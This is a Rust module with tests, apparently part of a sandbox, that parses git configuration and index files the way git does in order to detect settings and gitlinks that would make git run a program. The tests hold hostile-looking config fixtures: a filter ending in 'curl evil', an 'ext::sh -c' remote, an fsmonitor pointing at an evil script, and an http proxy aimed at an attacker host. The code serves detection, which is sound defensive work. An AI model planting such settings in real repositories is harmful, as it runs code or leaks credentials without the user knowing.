//! What in Git's own files makes the user's git run a program: the configuration keys that
//! name one, and the gitlinks of an index (the nested repositories a `git status` in the
//! workspace descends into). Pure: bytes and text in, findings out.

/// Configuration keys whose value is a program (or a file of more configuration) that git
/// runs or reads when the user works in that repository, as `section.key` or
/// `section.*.key` for keys under any subsection; lowercase.
pub const PROGRAM_KEYS: &[&str] = &[
    "core.fsmonitor",
    "core.hookspath",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "sequence.editor",
    "diff.external",
    "diff.*.textconv",
    "diff.*.command",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "merge.*.driver",
    "credential.helper",
    "credential.*.helper",
    "gpg.program",
    "gpg.*.program",
    "uploadpack.packobjectshook",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "include.path",
    "includeif.*.path",
    "pager.*",
    "protocol.allow",
    "protocol.*.allow",
    "gpg.*.defaultkeycommand",
    "interactive.difffilter",
    "difftool.*.cmd",
    "mergetool.*.cmd",
    "submodule.*.update",
    "alias.*",
    "web.browser",
    "browser.*.cmd",
    "browser.*.path",
    "man.*.cmd",
    "man.*.path",
    "sendemail.smtpserver",
    "sendemail.sendmailcmd",
    "sendemail.aliasesfile",
    "sendemail.*.smtpserver",
    "sendemail.*.sendmailcmd",
    "sendemail.tocmd",
    "sendemail.cccmd",
    "sendemail.headercmd",
    "sendemail.*.tocmd",
    "sendemail.*.cccmd",
    "sendemail.*.headercmd",
    // `git-remote-<vcs>`, run from the work tree when it holds a slash.
    "remote.*.vcs",
    // A URL rewritten to another place (the place is the subsection, not read here): new
    // ones count, whatever they point to.
    "url.*.insteadof",
    "url.*.pushinsteadof",
    "trailer.*.cmd",
    "trailer.*.command",
    "imap.tunnel",
    "difftool.*.path",
    "mergetool.*.path",
    "guitool.*.cmd",
    // Config-based hooks (git 2.46+).
    "hook.*.command",
    // Where git sends its credentials.
    "http.proxy",
    "http.*.proxy",
    "remote.*.proxy",
];

/// Settings that name a program only by what they hold: a remote reached through a transport
/// helper (`ext::sh -c …`, `fd::`, `helper::`) or a relative path (a repository beside this
/// one, which a command could have made, whose hooks a push would run). An absolute local
/// path is left alone: git writes one for a submodule cloned from a folder, and it names a
/// repository the sandbox could write only when that lies in a writable root.
const LOCAL_URL_KEYS: &[&str] = &["remote.*.url", "remote.*.pushurl"];

/// Whether a remote URL goes through a transport helper or is a relative path.
fn is_local_or_helper_url(value: &str) -> bool {
    let v = value.trim();
    v.contains("::") || v.starts_with("./") || v.starts_with("../") || v == "." || v == ".."
}

/// The keys of `text` (a git config file) that name a program, as `section.key` spelled as
/// in [`PROGRAM_KEYS`]. `core.fsmonitor` set to a boolean is git's own daemon, not a program.
pub fn program_keys(text: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (key, _) in program_settings(text) {
        if !out.contains(&key) {
            out.push(key);
        }
    }
    out
}

/// Every setting of `text` (a git config file) as git reads it (continued values, a leading
/// BOM, CRLF, comments), in file order: (`section.key`, or `section.*.key` under a
/// subsection, lowercase; its value as git's `parse_value` gives it; `true` for a bare key).
/// A line git would refuse is `(UNPARSED, the line)`: git refuses the whole file there, and
/// what follows might be read otherwise than here.
pub fn settings(text: &str) -> Vec<(String, String)> {
    let text = text
        .strip_prefix('\u{feff}')
        .unwrap_or(text)
        .replace("\r\n", "\n");
    let mut rest = text.as_str();
    let (mut section, mut subsection) = (String::new(), false);
    let mut out = Vec::new();
    loop {
        rest = rest.trim_start_matches([' ', '\t', '\r', '\n']);
        let Some(first) = rest.chars().next() else {
            break;
        };
        let line_end = rest.find('\n').map_or(rest.len(), |i| i + 1);
        let line = rest[..line_end].trim();
        match first {
            // A comment runs to the end of its line; a `\` there continues nothing.
            '#' | ';' => rest = &rest[line_end..],
            // Git reads section headers, then at most one setting, from the same line:
            // `[a][core]fsmonitor = x` sets `core.fsmonitor`.
            '[' => match section_header(&rest[1..]) {
                Some((name, sub, after)) => {
                    (section, subsection) = (name, sub);
                    rest = after;
                }
                None => {
                    // Every key after a header git refuses counts as naming a program too
                    // (see `program_settings`).
                    out.push((UNPARSED.to_string(), line.to_string()));
                    (section, subsection) = (UNPARSED.to_string(), false);
                    rest = &rest[line_end..];
                }
            },
            _ => match setting(rest) {
                Some((key, value, after)) => {
                    let spelled = match subsection {
                        true => format!("{section}.*.{key}"),
                        false => format!("{section}.{key}"),
                    };
                    out.push((spelled, value));
                    rest = after;
                }
                None => {
                    out.push((UNPARSED.to_string(), line.to_string()));
                    rest = &rest[line_end..];
                }
            },
        }
    }
    out
}

/// One setting (after any headers on its line) as git's `get_value` reads it: the key
/// (letters, digits, `-`, starting with a letter; lowercase), then `=` and the value, or the
/// end of the line (a bare key is `true`); and the text after it. `None` where git refuses
/// the line (a comment after a bare key included).
fn setting(text: &str) -> Option<(String, String, &str)> {
    let end = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '-'))
        .unwrap_or(text.len());
    let (key, after) = text.split_at(end);
    if !key.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return None;
    }
    let after = after.trim_start_matches([' ', '\t', '\r']);
    let (value, rest) = match after.chars().next() {
        None => ("true".to_string(), ""),
        Some('\n') => ("true".to_string(), &after[1..]),
        Some('=') => value(&after[1..])?,
        Some(_) => return None,
    };
    Some((key.to_ascii_lowercase(), value, rest))
}

/// A value as git's `parse_value` reads it, up to the newline that ends it (returned with
/// the text after it): blanks (space, tab, CR) dropped at both ends and kept inside, `"`
/// quoting (blanks, `#` and `;` kept inside), `\\ \" \t \n \b` escapes, `\` at the end of a
/// line continuing the value on the next, an unquoted `#` or `;` starting a comment to the
/// end of the line; `None` for an unknown escape, or a line ending inside quotes (git
/// refuses the file).
fn value(text: &str) -> Option<(String, &str)> {
    let mut out = String::new();
    let (mut quoted, mut comment, mut blanks) = (false, false, String::new());
    let mut chars = text.char_indices();
    while let Some((i, c)) = chars.next() {
        if c == '\n' {
            return (!quoted).then(|| (out, &text[i + 1..]));
        }
        if comment {
            continue;
        }
        if !quoted && (c == '#' || c == ';') {
            comment = true;
            continue;
        }
        if !quoted && matches!(c, ' ' | '\t' | '\r') {
            if !out.is_empty() {
                blanks.push(c);
            }
            continue;
        }
        if c == '\\' {
            let escaped = match chars.next()?.1 {
                // A continued line: the value goes on after the newline.
                '\n' => continue,
                't' => '\t',
                'n' => '\n',
                'b' => '\u{8}',
                c @ ('\\' | '"') => c,
                _ => return None,
            };
            out.push_str(&std::mem::take(&mut blanks));
            out.push(escaped);
            continue;
        }
        out.push_str(&std::mem::take(&mut blanks));
        match c {
            '"' => quoted = !quoted,
            c => out.push(c),
        }
    }
    (!quoted).then_some((out, ""))
}

/// A boolean setting as git reads it (`git config --type=bool`): `Some(false)` only for
/// what git reads as false (`false`, `no`, `off`, empty, or an integer that is zero),
/// `Some(true)` for what it reads as true (an integer must fit a C `int` once its k/m/g
/// unit is applied: git takes anything larger for a non-boolean), `None` where git would not
/// read a boolean.
pub fn boolean(value: &str) -> Option<bool> {
    let v = value.to_ascii_lowercase();
    match v.as_str() {
        "true" | "yes" | "on" => return Some(true),
        "false" | "no" | "off" | "" => return Some(false),
        _ => {}
    }
    let (number, factor) = match v.as_bytes().last() {
        Some(b'k') => (&v[..v.len() - 1], 1i64 << 10),
        Some(b'm') => (&v[..v.len() - 1], 1i64 << 20),
        Some(b'g') => (&v[..v.len() - 1], 1i64 << 30),
        _ => (v.as_str(), 1),
    };
    // C's base 0: decimal, 0x hex, a leading 0 octal; a sign first.
    let (negative, digits) = match number.strip_prefix('-') {
        Some(d) => (true, d),
        None => (false, number.strip_prefix('+').unwrap_or(number)),
    };
    let all_digits = |d: &str, radix: u32| !d.is_empty() && d.chars().all(|c| c.is_digit(radix));
    let magnitude = if let Some(hex) = digits.strip_prefix("0x") {
        all_digits(hex, 16).then(|| i64::from_str_radix(hex, 16).ok())??
    } else if digits.len() > 1 && digits.starts_with('0') {
        all_digits(&digits[1..], 8).then(|| i64::from_str_radix(&digits[1..], 8).ok())??
    } else {
        all_digits(digits, 10).then(|| digits.parse::<i64>().ok())??
    };
    let n = magnitude.checked_mul(factor)?;
    let n = if negative { -n } else { n };
    i32::try_from(n).ok().map(|n| n != 0)
}

/// The section of a header this reader cannot parse, and of the keys after it.
pub const UNPARSED: &str = "(unparsed)";

/// A section header after its `[`, as git's `get_base_var` reads it: the section's name
/// (lowercase), whether it has a subsection (`[s "sub"]`, quoted with backslash escapes, or
/// the old `[s.sub]`), and the rest of the line; `None` where git would refuse the file.
fn section_header(text: &str) -> Option<(String, bool, &str)> {
    let mut name = String::new();
    let mut chars = text.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            ']' => {
                let sub = name.contains('.');
                let section = name.split('.').next().unwrap_or("").to_string();
                return Some((section, sub, &text[i + 1..]));
            }
            c if c.is_ascii_alphanumeric() || c == '-' || c == '.' => {
                name.push(c.to_ascii_lowercase())
            }
            ' ' | '\t' => {
                // `[section "subsection"]`: spaces, a quoted name, then `]`.
                let mut c = chars.find(|(_, c)| *c != ' ' && *c != '\t')?.1;
                if c != '"' {
                    return None;
                }
                loop {
                    c = chars.next()?.1;
                    match c {
                        '"' => break,
                        '\\' => {
                            chars.next()?;
                        }
                        '\n' => return None,
                        _ => {}
                    }
                }
                let (i, c) = chars.next()?;
                return (c == ']').then(|| (name, true, &text[i + 1..]));
            }
            _ => return None,
        }
    }
    None
}

/// Each setting of `text` that names a program, as (`section.key` spelled as in
/// [`PROGRAM_KEYS`], its value), in file order: what to compare before and after a run, so a
/// file git rewrote around the user's own settings is not taken for a planted one.
pub fn program_settings(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (spelled, value) in settings(text) {
        let section = spelled.split('.').next().unwrap_or("");
        let subsection = spelled.contains(".*.");
        // `pager.*`: every key of a section without subsection.
        let named = section == UNPARSED
            || PROGRAM_KEYS.contains(&spelled.as_str())
            || LOCAL_URL_KEYS.contains(&spelled.as_str())
            || (!subsection && PROGRAM_KEYS.contains(&format!("{section}.*").as_str()));
        if !named {
            continue;
        }
        if spelled == "core.fsmonitor" && is_bool(&value) {
            continue;
        }
        if spelled.starts_with("filter.*.") && LFS_FILTERS.contains(&value.as_str()) {
            continue;
        }
        // An alias or a submodule's update runs a program only as `!command`.
        let shell = value.trim_start().starts_with('!');
        if LOCAL_URL_KEYS.contains(&spelled.as_str()) && !is_local_or_helper_url(&value) {
            continue;
        }
        if (section == "alias" || spelled == "submodule.*.update") && !shell {
            continue;
        }
        let setting = (spelled, value);
        if !out.contains(&setting) {
            out.push(setting);
        }
    }
    out
}

/// What `git lfs install` writes: the one filter tooling commonly puts in a repository's own
/// configuration, exactly (anything more would be run by the shell too).
const LFS_FILTERS: &[&str] = &[
    "git-lfs clean -- %f",
    "git-lfs smudge -- %f",
    "git-lfs filter-process",
];

fn is_bool(value: &str) -> bool {
    boolean(value).is_some()
}

/// Why an index could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IndexError(pub String);

/// The paths of the index's gitlinks (mode 160000: a nested repository recorded as a
/// commit), in index order. `hash_len` is 20 (SHA-1) or 32 (SHA-256 repositories).
/// Understands index versions 2, 3 and 4.
pub fn gitlinks(index: &[u8], hash_len: usize) -> Result<Vec<String>, IndexError> {
    entries(index, hash_len).map(|r| r.links)
}

/// What an index records that matters here: its gitlinks, and, when it is split (`git
/// update-index --split-index`), the name of the shared index holding more entries.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Recorded {
    pub links: Vec<String>,
    /// `sharedindex.<hash>`, from the `link` extension, in the index's folder.
    pub shared: Option<String>,
}

/// [`gitlinks`], and the extensions after the entries read for a `link` one.
pub fn entries(index: &[u8], hash_len: usize) -> Result<Recorded, IndexError> {
    let (links, end) = entry_links(index, hash_len)?;
    // Extensions: a 4-byte signature and a 4-byte length each, then the trailing hash.
    let mut at = end;
    let mut shared = None;
    while at + 8 + hash_len <= index.len() {
        let sig = &index[at..at + 4];
        let len = u32::from_be_bytes([index[at + 4], index[at + 5], index[at + 6], index[at + 7]]);
        let body = index.get(at + 8..at + 8 + len as usize);
        if sig == b"link" {
            // The shared index's hash comes first; the bitmaps after it do not matter here
            // (a gitlink the split index deleted is checked all the same).
            let hash = body
                .and_then(|b| b.get(..hash_len))
                .ok_or_else(|| IndexError("a truncated link extension".into()))?;
            let hex: String = hash.iter().map(|b| format!("{b:02x}")).collect();
            shared = Some(format!("sharedindex.{hex}"));
        }
        at += 8 + len as usize;
    }
    Ok(Recorded { links, shared })
}

fn entry_links(index: &[u8], hash_len: usize) -> Result<(Vec<String>, usize), IndexError> {
    let bad = |why: &str| IndexError(why.to_string());
    let u32_at = |at: usize| -> Result<u32, IndexError> {
        index
            .get(at..at + 4)
            .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
            .ok_or_else(|| bad("truncated"))
    };
    if index.get(0..4) != Some(b"DIRC") {
        return Err(bad("not an index (no DIRC signature)"));
    }
    let version = u32_at(4)?;
    if !(2..=4).contains(&version) {
        return Err(IndexError(format!("index version {version}")));
    }
    let count = u32_at(8)? as usize;
    let mut at = 12usize;
    // Version 4 compresses each path against the one before: one buffer, reused.
    let mut path: Vec<u8> = Vec::new();
    let mut out = Vec::new();
    for _ in 0..count {
        let start = at;
        let mode = u32_at(start + 24)?;
        let flags_at = start + 40 + hash_len;
        let flags = index
            .get(flags_at..flags_at + 2)
            .map(|b| u16::from_be_bytes([b[0], b[1]]))
            .ok_or_else(|| bad("truncated"))?;
        let mut path_at = flags_at + 2;
        // Git reads the extended flags whenever the bit is set, whatever the version
        // (`create_from_disk` in read-cache.c): so must this, or a crafted version 2 index
        // shifts every path after that entry and hides a gitlink.
        if flags & 0x4000 != 0 {
            path_at += 2;
        }
        let is_link = mode & 0o170000 == 0o160000;
        if version == 4 {
            // A varint of bytes to drop from the previous path, then the rest, NUL-ended.
            let (strip, used) = varint(index.get(path_at..).unwrap_or(&[]))
                .ok_or_else(|| bad("truncated path prefix"))?;
            let suffix_at = path_at + used;
            let len = index
                .get(suffix_at..)
                .and_then(|b| b.iter().position(|&c| c == 0))
                .ok_or_else(|| bad("unterminated path"))?;
            let keep = path
                .len()
                .checked_sub(strip)
                .ok_or_else(|| bad("bad path prefix"))?;
            path.truncate(keep);
            path.extend_from_slice(&index[suffix_at..suffix_at + len]);
            at = suffix_at + len + 1;
            if is_link {
                out.push(String::from_utf8_lossy(&path).into_owned());
            }
        } else {
            let len = index
                .get(path_at..)
                .and_then(|b| b.iter().position(|&c| c == 0))
                .ok_or_else(|| bad("unterminated path"))?;
            if is_link {
                out.push(String::from_utf8_lossy(&index[path_at..path_at + len]).into_owned());
            }
            // Entries are padded with 1 to 8 NULs to a multiple of 8 bytes.
            let entry_len = path_at + len - start;
            at = start + (entry_len + 8) / 8 * 8;
        }
    }
    Ok((out, at))
}

/// Git's offset varint (`encode_varint` in varint.c): 7 bits a byte, high bit = more, and
/// each continuation adds one before shifting.
fn varint(bytes: &[u8]) -> Option<(usize, usize)> {
    let mut value: usize = 0;
    for (i, &b) in bytes.iter().enumerate().take(9) {
        if i > 0 {
            value = value.checked_add(1)?.checked_shl(7)?;
        }
        value |= usize::from(b & 0x7f);
        if b & 0x80 == 0 {
            return Some((value, i + 1));
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn program_keys_are_found_in_every_spelling() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tFSMonitor = /tmp/x\n\
                    [core] sshCommand = ssh -i k\n\
                    [filter \"x\"]\n\tclean = tr a b\n\
                    [diff.pdf]\n\ttextconv = pdftotext\n\
                    [includeIf \"gitdir:/x\"]\n\tpath = /evil\n\
                    [pager]\n\tlog = less\n\
                    [user]\n\tname = me\n";
        assert_eq!(
            program_keys(text),
            vec![
                "core.fsmonitor",
                "core.sshcommand",
                "filter.*.clean",
                "diff.*.textconv",
                "includeif.*.path",
                "pager.log"
            ]
        );
    }

    #[test]
    fn values_are_read_as_git_reads_them() {
        let get = |text: &str| settings(text).into_iter().last();
        let one = |line: &str| get(&format!("[core]\n{line}\n"));
        let core = |v: &str| Some(("core.bare".to_string(), v.to_string()));
        assert_eq!(one("bare = true ; a comment"), core("true"));
        assert_eq!(one("bare = true # a comment"), core("true"));
        assert_eq!(one("bare = \"tr\"ue"), core("true"));
        assert_eq!(one("bare"), core("true"));
        // Git refuses a comment after a bare key.
        assert_eq!(
            one("bare # bare key, then a comment").map(|(k, _)| k),
            Some(UNPARSED.to_string())
        );
        // Continued values, CRLF, and a `\` that ends a comment continuing nothing.
        assert_eq!(one("bare = a \\\n b"), core("a  b"));
        assert_eq!(one("bare = \"a \\\nb\""), core("a b"));
        assert_eq!(get("[core]\r\n\tbare = \"a b\" ; c\r\n"), core("a b"));
        assert_eq!(
            program_keys("[core]\n\tfsmonitor = 3g\n"),
            vec!["core.fsmonitor"]
        );
        assert!(
            program_keys("[core]\n\tfsmonitor = 1k\n").is_empty(),
            "git's own daemon"
        );
        let hidden = "[core]\n# a comment \\\n\tfsmonitor = /ws/evil.sh\n";
        assert_eq!(program_keys(hidden), vec!["core.fsmonitor"]);
        let after_value = "[core]\n\thookspath = \"/x\" ; \\\n\tsshcommand = evil\n";
        assert_eq!(
            program_keys(after_value),
            vec!["core.hookspath", "core.sshcommand"]
        );
        assert_eq!(one("bare ="), core(""));
        assert_eq!(one("bare = \"a # b\"  \t"), core("a # b"));
        assert_eq!(one("bare = a  \t b"), core("a  \t b"));
        assert_eq!(one("bare = a\\tb\\\\\\\"c"), core("a\tb\\\"c"));
        // What git refuses: an unknown escape, an unclosed quote, junk after a key.
        for bad in ["bare = a\\qb", "bare = \"open", "bare true", "2bare = x"] {
            assert_eq!(
                one(bad).map(|(k, _)| k),
                Some(UNPARSED.to_string()),
                "{bad}"
            );
        }
        // Booleans: what git calls false is false; integers count (nonzero is true).
        for (v, want) in [
            ("true", Some(true)),
            ("YES", Some(true)),
            ("on", Some(true)),
            ("false", Some(false)),
            ("off", Some(false)),
            ("", Some(false)),
            ("0", Some(false)),
            ("2", Some(true)),
            ("1k", Some(true)),
            ("0x1", Some(true)),
            ("0x0", Some(false)),
            ("-1", Some(true)),
            ("010", Some(true)),
            ("maybe", None),
            ("1kk", None),
            // Past a C int git reads no boolean (so `fsmonitor = 3g` names a program).
            ("3g", None),
            ("2147483648", None),
            ("0x80000000", None),
            ("2147483647", Some(true)),
            ("-2147483648", Some(true)),
            ("1g", Some(true)),
            ("false\u{c}", None),
            ("0x", None),
            ("k", None),
        ] {
            assert_eq!(boolean(v), want, "{v}");
        }
    }

    #[test]
    fn continuations_a_bom_and_lfs_are_read_as_git_reads_them() {
        // The continued value swallows the `[user]` line: fsmonitor is still in [core].
        let text = "\u{feff}[core]\n\texcludesFile = x\\\n[user]\n\tfsmonitor = /evil\n";
        assert_eq!(program_keys(text), vec!["core.fsmonitor"]);
        let lfs = "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n";
        assert!(program_keys(lfs).is_empty(), "{:?}", program_keys(lfs));
        // An unquoted `;` starts a comment (git runs the LFS command); a quoted one does not.
        let commented = "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f; curl evil\n";
        assert!(program_keys(commented).is_empty());
        let not_lfs = "[filter \"lfs\"]\n\tclean = \"git-lfs clean -- %f; curl evil\"\n";
        assert_eq!(program_keys(not_lfs), vec!["filter.*.clean"]);
        // What `git submodule` writes for an absorbed submodule is not a program.
        assert!(program_keys("[core]\n\tworktree = ../../../vendor/lib\n").is_empty());
        let more = "[alias]\n\tst = status\n\tx = !sh -c evil\n[submodule \"a\"]\n\tupdate = rebase\n[submodule \"b\"]\n\tupdate = !evil\n[gpg \"ssh\"]\n\tdefaultKeyCommand = evil\n[interactive]\n\tdiffFilter = evil\n[difftool \"x\"]\n\tcmd = evil\n";
        assert_eq!(
            program_keys(more),
            vec![
                "alias.x",
                "submodule.*.update",
                "gpg.*.defaultkeycommand",
                "interactive.difffilter",
                "difftool.*.cmd"
            ]
        );
    }

    #[test]
    fn settings_are_read_with_their_sections() {
        let text = "[core]\n\tbare = false\n[extensions]\n\tobjectFormat = sha256\n\tworktreeConfig\n[remote \"o\"]\n\turl = \"x\"\n";
        assert_eq!(
            settings(text),
            vec![
                ("core.bare".to_string(), "false".to_string()),
                ("extensions.objectformat".to_string(), "sha256".to_string()),
                ("extensions.worktreeconfig".to_string(), "true".to_string()),
                ("remote.*.url".to_string(), "x".to_string()),
            ]
        );
    }

    #[test]
    fn harmless_configuration_is_left_alone() {
        let text = "[core]\n\tbare = false\n\tfsmonitor = true\n; core.pager = x\n\
                    [remote \"origin\"]\n\turl = https://example.com/r.git\n\
                    [branch \"main\"]\n\tremote = origin\n";
        assert!(program_keys(text).is_empty(), "{:?}", program_keys(text));
    }

    #[test]
    fn headers_are_read_as_git_reads_them_several_to_a_line() {
        let keys = |text: &str| {
            settings(text)
                .into_iter()
                .map(|(k, _)| k)
                .collect::<Vec<_>>()
        };
        assert_eq!(keys("[a][core]fsmonitor = x\n"), ["core.fsmonitor"]);
        assert_eq!(keys("[x \"]\"][core]fsmonitor = x\n"), ["core.fsmonitor"]);
        assert_eq!(
            keys("[x \"a\\\"b\"] [Core] FSMonitor=x\n"),
            ["core.fsmonitor"]
        );
        assert_eq!(
            keys("[core]fsmonitor=x\n[remote \"o\"] url = y\n"),
            ["core.fsmonitor", "remote.*.url"]
        );
        assert_eq!(keys("[core.x]\nfsmonitor = x\n"), ["core.*.fsmonitor"]);
        // A header git refuses: counted as naming a program, with all that follows.
        assert_eq!(
            keys("[co re]\nfsmonitor = x\n"),
            [UNPARSED, "(unparsed).fsmonitor"]
        );
        assert_eq!(program_keys("[co re]\nfsmonitor = x\n").len(), 2);
        assert_eq!(
            program_keys("[a][core]fsmonitor = echo P\n"),
            ["core.fsmonitor"],
            "a program behind a second header on the line"
        );
    }

    #[test]
    fn remotes_on_this_machine_or_through_helpers_name_programs() {
        for text in [
            "[remote \"origin\"]\n\tpushurl = ../evil\n",
            "[remote \"o\"]\n\turl = ext::sh -c touch% /tmp/x\n",
            "[url \"file:///tmp/e\"]\n\tinsteadOf = https://github.com/\n",
            "[remote \"o\"]\n\tvcs = /../evil.sh\n",
            "[http]\n\tproxy = http://attacker:3128\n",
        ] {
            assert!(!program_keys(text).is_empty(), "{text}");
        }
        for text in [
            "[remote \"origin\"]\n\turl = https://github.com/o/r.git\n",
            "[remote \"origin\"]\n\turl = git@github.com:o/r.git\n",
            "[remote \"origin\"]\n\turl = /srv/git/lib.git\n",
        ] {
            assert!(program_keys(text).is_empty(), "{text}");
        }
    }

    /// An index with the given (mode, path) entries, as git writes version 2 or 3.
    fn index_v2(entries: &[(u32, &str)]) -> Vec<u8> {
        let mut out = b"DIRC".to_vec();
        out.extend(2u32.to_be_bytes());
        out.extend((entries.len() as u32).to_be_bytes());
        for (mode, path) in entries {
            let start = out.len();
            out.extend([0u8; 24]);
            out.extend(mode.to_be_bytes());
            out.extend([0u8; 12]);
            out.extend([0u8; 20]);
            out.extend((path.len() as u16).to_be_bytes());
            out.extend(path.as_bytes());
            let len = out.len() - start;
            out.resize(start + (len + 8) / 8 * 8, 0);
        }
        out
    }

    #[test]
    fn gitlinks_of_a_version_2_index() {
        let idx = index_v2(&[
            (0o100644, "README"),
            (0o160000, "sub"),
            (0o100755, "x/run.sh"),
            (0o160000, "vendor/lib"),
        ]);
        assert_eq!(gitlinks(&idx, 20).unwrap(), vec!["sub", "vendor/lib"]);
        assert_eq!(entries(&idx, 20).unwrap().shared, None);
        let mut split = idx.clone();
        split.extend(b"link");
        split.extend(20u32.to_be_bytes());
        split.extend([0xabu8; 20]);
        split.extend([0u8; 20]); // the trailing hash
        assert_eq!(
            entries(&split, 20).unwrap().shared.as_deref(),
            Some(format!("sharedindex.{}", "ab".repeat(20)).as_str())
        );
        assert!(gitlinks(b"nope", 20).is_err());
        assert!(gitlinks(&idx[..idx.len() - 9], 20).is_err());
    }

    #[test]
    fn an_extended_entry_counts_in_a_version_2_index_as_git_reads_it() {
        // Git honours the extended-flags bit in any version; an entry with it set has two
        // more flag bytes before its path.
        let mut out = b"DIRC".to_vec();
        out.extend(2u32.to_be_bytes());
        out.extend(2u32.to_be_bytes());
        for (mode, path, extended) in [(0o100644u32, "a", true), (0o160000, "planted", false)] {
            let start = out.len();
            out.extend([0u8; 24]);
            out.extend(mode.to_be_bytes());
            out.extend([0u8; 12]);
            out.extend([0u8; 20]);
            let flags = path.len() as u16 | if extended { 0x4000 } else { 0 };
            out.extend(flags.to_be_bytes());
            if extended {
                out.extend([0u8; 2]);
            }
            out.extend(path.as_bytes());
            let len = out.len() - start;
            out.resize(start + (len + 8) / 8 * 8, 0);
        }
        assert_eq!(gitlinks(&out, 20).unwrap(), vec!["planted"]);
    }

    #[test]
    fn gitlinks_of_a_version_4_index() {
        let mut idx = b"DIRC".to_vec();
        idx.extend(4u32.to_be_bytes());
        idx.extend(3u32.to_be_bytes());
        // "lib/a" (strip 0), "lib/sub" (strip 1 of "lib/a", add "sub"), "lib/x" (strip 3).
        for (mode, strip, suffix) in [
            (0o100644u32, 0u8, "lib/a"),
            (0o160000, 1, "sub"),
            (0o100644, 3, "x"),
        ] {
            idx.extend([0u8; 24]);
            idx.extend(mode.to_be_bytes());
            idx.extend([0u8; 12]);
            idx.extend([0u8; 20]);
            idx.extend(0u16.to_be_bytes());
            idx.push(strip);
            idx.extend(suffix.as_bytes());
            idx.push(0);
        }
        assert_eq!(gitlinks(&idx, 20).unwrap(), vec!["lib/sub"]);
    }

    #[test]
    fn varints_are_gits_offset_encoding() {
        assert_eq!(varint(&[0x05]), Some((5, 1)));
        // 128 is 0x80 0x00 in git's encoding.
        assert_eq!(varint(&[0x80, 0x00]), Some((128, 2)));
        assert_eq!(varint(&[0x80]), None);
    }
}
